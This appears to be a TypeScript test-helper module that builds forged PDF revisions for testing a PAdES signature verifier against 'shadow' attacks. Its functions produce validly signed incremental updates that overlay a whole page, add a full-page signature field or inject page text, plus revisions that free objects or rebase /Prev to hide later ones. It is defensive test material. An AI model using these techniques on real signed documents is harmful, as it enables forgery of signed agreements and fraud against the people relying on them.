import { createHash } from 'node:crypto';
import { CmsSigner, cadesDetached } from '../../src/documents/signing/pades/cades';
import { PdfFile } from '../../src/documents/signing/pades/pdf-file';
import { IncrementalUpdate, pdfDate } from '../../src/documents/signing/pades/pdf-update';
import { PdfDict, PdfName, PdfRef, PdfString, PdfValue, textString } from '../../src/documents/signing/pades/pdf-syntax';

/**
 * Revisions a member could sign with its own tool to lay a new face over the pledge (security review 05/12/2026,
 * the "shadow" attacks): each is one incremental update with a valid CAdES signature by `signer`.
 * - `overlay`: signs its own empty field, the widget enlarged to the whole page, its appearance a white page with text;
 * - `new-field`: a new signature field over the whole page (the page's /Annots and the form's /Fields rewritten);
 * - `page-text`: signs its own field and adds a line of text to the first page's content.
 */
export type Forgery = 'overlay' | 'new-field' | 'page-text';

const A4 = [595.28, 841.89];
const PLACEHOLDER = '[0 0000000000 0000000000 0000000000]';

export async function forgedRevision(pdf: Buffer, field: string, signer: CmsSigner, kind: Forgery): Promise<Buffer> {
  const file = new PdfFile(pdf);
  const update = new IncrementalUpdate(file);
  const reserve = 16384;
  const sigRef = update.allocate();
  update.put(
    sigRef,
    new PdfDict()
      .set('Type', new PdfName('Sig'))
      .set('Filter', new PdfName('Adobe.PPKLite'))
      .set('SubFilter', new PdfName('ETSI.CAdES.detached'))
      .set('ByteRange', new PdfString(PLACEHOLDER))
      .set('Contents', new PdfString(`<${'0'.repeat(reserve * 2)}>`))
      .set('M', new PdfString(`(${pdfDate(new Date())})`)),
  );
  const [w, h] = A4;
  const apRef = update.allocate();
  const font = new PdfDict().set('Type', new PdfName('Font')).set('Subtype', new PdfName('Type1')).set('BaseFont', new PdfName('Helvetica'));
  const face = Buffer.from(`q 1 1 1 rg 0 0 ${w} ${h} re f Q BT /F1 28 Tf 60 600 Td (NOI DUNG DA BI THAY THE) Tj ET\n`, 'latin1');
  update.put(apRef, new PdfDict().set('Type', new PdfName('XObject')).set('Subtype', new PdfName('Form')).set('BBox', [0, 0, w, h]).set('Resources', new PdfDict().set('Font', new PdfDict().set('F1', font))), face);
  const page = file.pages()[0];
  const own = file.signatureFields().find((f) => f.name === field);
  if (kind === 'new-field') {
    const catalog = file.catalog();
    const formRef = catalog.dict.get('AcroForm') as PdfRef;
    const form = file.dict(formRef)!;
    const widget = update.allocate();
    update.put(widget, new PdfDict().set('Type', new PdfName('Annot')).set('Subtype', new PdfName('Widget')).set('FT', new PdfName('Sig')).set('T', textString(`${field}-extra`)).set('Rect', [0, 0, w, h]).set('F', 132).set('P', page.ref).set('V', sigRef).set('AP', new PdfDict().set('N', apRef)));
    update.put(formRef, new PdfDict(new Map(form.entries)).set('Fields', [...((file.resolve(form.get('Fields')) as PdfValue[]) ?? []), widget]));
    update.put(page.ref, new PdfDict(new Map(page.dict.entries)).set('Annots', [...((file.resolve(page.dict.get('Annots')) as PdfValue[]) ?? []), widget]));
  } else {
    if (!own) throw new Error(`No field ${field}.`);
    const dict = new PdfDict(new Map(file.dict(own.ref)!.entries)).set('V', sigRef).set('AP', new PdfDict().set('N', apRef));
    update.put(own.ref, kind === 'overlay' ? dict.set('Rect', [0, 0, w, h]) : dict);
    if (kind === 'page-text') {
      const extra = update.allocate();
      update.put(extra, new PdfDict(), Buffer.from('BT /F1 30 Tf 100 400 Td (100 diem) Tj ET'));
      const contents = page.dict.get('Contents');
      update.put(page.ref, new PdfDict(new Map(page.dict.entries)).set('Contents', [...(Array.isArray(contents) ? contents : [contents!]), extra]));
    }
  }
  const out = update.build();
  const brAt = out.lastIndexOf(`/ByteRange ${PLACEHOLDER}`);
  const at = out.indexOf(`/Contents <${'0'.repeat(32)}`, brAt) + '/Contents '.length;
  const end = at + reserve * 2 + 2;
  out.write(`[${[0, at, end, out.length - end].join(' ')}]`.padEnd(PLACEHOLDER.length, ' '), brAt + '/ByteRange '.length, 'latin1');
  const cms = await cadesDetached(signer, createHash('sha256').update(out.subarray(0, at)).update(out.subarray(end)).digest());
  out.write(cms.toString('hex').toUpperCase(), at + 1, 'latin1');
  return out;
}

/** `pdf` plus an update that only frees object `num` (a viewer then no longer finds it) — unsigned, for the check's order. */
export function freeingRevision(pdf: Buffer, num: number): Buffer {
  const file = new PdfFile(pdf);
  const update = new IncrementalUpdate(file);
  update.put(update.allocate(), new PdfDict());
  const out = update.build().toString('latin1');
  const at = out.lastIndexOf('trailer\n');
  return Buffer.from(`${out.slice(0, at)}${num} 1\n0000000000 00001 f \n${out.slice(at)}`, 'latin1');
}

/** `pdf` plus an update built on its first revision (/Prev to the first cross-reference table), hiding the later ones. */
export function rebasedRevision(pdf: Buffer): Buffer {
  const file = new PdfFile(pdf);
  const update = new IncrementalUpdate(file);
  update.put(update.allocate(), new PdfDict());
  const out = update.build().toString('latin1');
  const at = out.lastIndexOf(`/Prev ${file.latest().startxref}`);
  return Buffer.from(`${out.slice(0, at)}/Prev ${file.revisions()[0].startxref}${out.slice(at + `/Prev ${file.latest().startxref}`.length)}`, 'latin1');
}
